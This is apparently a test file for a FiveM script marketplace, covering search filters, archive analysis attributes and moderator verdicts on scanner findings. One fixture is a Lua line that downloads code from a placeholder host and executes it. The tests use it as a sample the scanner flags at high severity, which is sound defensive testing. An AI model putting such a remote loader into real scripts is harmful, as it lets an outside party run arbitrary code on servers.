import { sql } from 'drizzle-orm'
import { expect, test } from 'vitest'

import { reindexScripts } from '#server/scripts/script-search/index-scripts.ts'
import { writeAttributesOfArchives } from '#server/scripts/write-attributes.ts'
import { zipOf } from '#test-support/archives/zip.ts'
import { analyseAll, runQueued } from '#test-support/analyses.ts'
import { scriptForm } from '#test-support/script-forms.ts'
import { startTestApp } from '#test-support/test-app.ts'

const app = await startTestApp()
const author = await app.createUser('scripts.upload')
const moderator = await app.createUser('admin.system.access', 'admin.scripts.moderate')

type Files = Record<string, string>

const manifest = (lines: string) => `fx_version 'cerulean'\ngame 'gta5'\n${lines}\n`
const loader = "PerformHttpRequest('https://example.com/code', function(_, body) load(body)() end)\n"

function archiveOf(files: Files) {
  const members = Object.entries(files).map(([name, content]) => ({ name, content }))
  return { fileName: 'a.zip', content: zipOf(members) }
}

async function submit(files: Files): Promise<{ id: number; versionId: number }> {
  const form = await scriptForm({}, { archive: archiveOf(files) })
  const { body } = await app.request(author, 'POST', '/api/scripts', form)
  return body
}

const idsOf = async (query: string): Promise<number[]> =>
  (await app.request(null, 'GET', `/api/scripts?limit=100&${query}`)).body.scripts.map(
    ({ id }: { id: number }) => id,
  )

test('a script is found by its analysis as soon as it is done', async () => {
  const script = await submit({
    'hud/fxmanifest.lua': manifest("server_script 's.lua'\nui_page 'p.html'\ndependency 'es_extended'"),
    'hud/s.lua': "ESX = exports['es_extended']:getSharedObject()",
    'hud/p.html': '<p>',
    'hud/install.sql': 'select 1;',
  })
  expect(await idsOf('framework=esx')).not.toContain(script.id)
  expect(await idsOf('report=no-high')).not.toContain(script.id)
  expect(await idsOf('exclude=page')).toContain(script.id)

  await analyseAll(app)
  for (const query of [
    'framework=esx',
    'game=gta5',
    'includes=open,page,sql',
    'report=no-high',
    'report=none',
  ])
    expect({ query, ids: await idsOf(query) }).toEqual({ query, ids: expect.arrayContaining([script.id]) })
  for (const query of ['exclude=page', 'exclude=esx', 'includes=escrowed', 'framework=standalone'])
    expect({ query, ids: await idsOf(query) }).toEqual({
      query,
      ids: expect.not.arrayContaining([script.id]),
    })
})

const bridge = (name: string) =>
  `if GetResourceState('${name}') == 'started' then exports['${name}']:get() end`

test('a script that uses a framework only where a server has it is standalone, and works with that framework', async () => {
  const files = { 'a/fxmanifest.lua': manifest("server_script 's.lua'"), 'a/s.lua': bridge('es_extended') }
  const optional = await submit(files)
  // It may need one of the two.
  const either = await submit({ ...files, 'a/s.lua': `${bridge('es_extended')}\n${bridge('qb-core')}` })
  const needed = await submit({ ...files, 'a/s.lua': "exports['es_extended']:get()" })
  await analyseAll(app)

  const standalone = await idsOf('framework=standalone')
  expect([optional, either, needed].map(({ id }) => standalone.includes(id))).toEqual([true, false, false])
  const withEsx = [optional.id, either.id, needed.id]
  expect(await idsOf('framework=esx')).toEqual(expect.arrayContaining(withEsx))
})

test('a script is found by the libraries and the resources that its archive uses, and by its server build', async () => {
  const script = await submit({
    'boat/fxmanifest.lua': manifest(
      "shared_script '@ox_lib/init.lua'\nserver_script 's.lua'\ndependencies { 'pma-voice', '/server:6116' }",
    ),
    'boat/s.lua': "exports['ox_target']:addModel(1, {})",
  })
  await analyseAll(app)
  await runQueued(app, reindexScripts)

  for (const name of ['ox_lib', 'pma-voice', 'ox_target'])
    expect([name, await idsOf(`q=${name}`), await idsOf(`needs=${name}`)]).toEqual([
      name,
      [script.id],
      [script.id],
    ])
  const { body } = await app.request(null, 'GET', '/api/scripts')
  expect(body.facets.needs).toContainEqual({ name: 'ox_lib', count: 1 })
  expect(await idsOf('build=6115')).not.toContain(script.id)
  expect(await idsOf('build=6116')).toContain(script.id)

  const files = { 'boat/fxmanifest.lua': manifest("server_script 's.lua'"), 'boat/s.lua': 'print(1)' }
  const change = await scriptForm({ version: '2.0.0' }, { archive: archiveOf(files), images: [] })
  expect((await app.request(author, 'PUT', `/api/scripts/${script.id}`, change)).status).toBe(200)
  await analyseAll(app)
  await runQueued(app, reindexScripts)
  expect(await idsOf('q=ox_lib')).toEqual([])
  expect(await idsOf('build=1')).toContain(script.id)
})

test.each([
  ['source', { sourceUrl: 'https://example.com/boat' }],
  ['documentation', { documentation: 'Put it on water.' }],
  ['documentation', { documentationUrl: 'https://example.com/boat/docs' }],
  ['support', { supportUrl: 'https://example.com/boat/help' }],
])('a script is found by its %s, which its author can add and remove: %j', async (word, fields) => {
  const { body: script } = await app.request(author, 'POST', '/api/scripts', await scriptForm(fields))
  await analyseAll(app)
  const isListed = async () =>
    Promise.all(
      ['includes', 'exclude'].map(async (filter) => (await idsOf(`${filter}=${word}`)).includes(script.id)),
    )
  const countOf = async () => {
    const { body } = await app.request(null, 'GET', '/api/scripts')
    return body.facets.attributes.find(({ name }: { name: string }) => name === word).count
  }
  const change = async (changed: Record<string, string>) => {
    const form = await scriptForm(changed, { archive: null, images: [] })
    expect((await app.request(author, 'PUT', `/api/scripts/${script.id}`, form)).status).toBe(200)
  }

  const count = await countOf()
  expect(await isListed()).toEqual([true, false])
  await change(Object.fromEntries(Object.keys(fields).map((name) => [name, ''])))
  expect(await isListed()).toEqual([false, true])
  expect(await countOf()).toBe(count - 1)
  await change(fields)
  expect(await isListed()).toEqual([true, false])
})

test('a new archive replaces the attributes', async () => {
  const files = { 'a/fxmanifest.lua': manifest("server_script 's.lua'"), 'a/s.lua': 'print(1)' }
  const script = await submit({ ...files, 'a/one.sql': 'select 1;' })
  await analyseAll(app)
  expect(await idsOf('includes=sql')).toContain(script.id)

  const change = await scriptForm({ version: '2.0.0' }, { archive: archiveOf(files), images: [] })
  const { status } = await app.request(author, 'PUT', `/api/scripts/${script.id}`, change)
  expect(status).toBe(200)
  await analyseAll(app)
  expect(await idsOf('includes=sql')).not.toContain(script.id)
  expect(await idsOf('framework=standalone')).toContain(script.id)
})

test('an archive that cannot be read is not among those without findings of severity high', async () => {
  const { fileName, content } = archiveOf({ 'a/server.lua': 'print(1)' })
  content[content.indexOf('print(1)') + 2] = 0x49
  const form = await scriptForm({}, { archive: { fileName, content } })
  const { body: script } = await app.request(author, 'POST', '/api/scripts', form)
  await analyseAll(app)

  expect(await idsOf('report=no-high')).not.toContain(script.id)
  const { rows } = await app.db.execute(sql`select attributes from scripts where id = ${script.id}`)
  expect(rows).toEqual([{ attributes: ['report:failed'] }])
})

test('a verdict moves a script into the list without findings of severity high, and back', async () => {
  const script = await submit({
    'loads/fxmanifest.lua': manifest("server_script 'loader.lua'"),
    'loads/loader.lua': loader,
  })
  await analyseAll(app)
  expect(await idsOf('report=no-high')).not.toContain(script.id)

  const { body: report } = await app.request(null, 'GET', `/api/versions/${script.versionId}/report`)
  const { findings }: { findings: { rule: string; severity: string; fileSha256: string }[] } = report
  for (const { rule, severity, fileSha256 } of findings) {
    if (severity !== 'high') continue
    const verdict = { verdict: 'accepted', note: 'A loader of the author' }
    await app.request(moderator, 'PUT', `/api/finding-verdicts/${rule}/${fileSha256}`, verdict)
  }
  await runQueued(app, writeAttributesOfArchives)
  expect(await idsOf('report=no-high')).toContain(script.id)

  for (const { rule, severity, fileSha256 } of findings)
    if (severity === 'high')
      await app.request(moderator, 'DELETE', `/api/finding-verdicts/${rule}/${fileSha256}`)
  await runQueued(app, writeAttributesOfArchives)
  expect(await idsOf('report=no-high')).not.toContain(script.id)
})
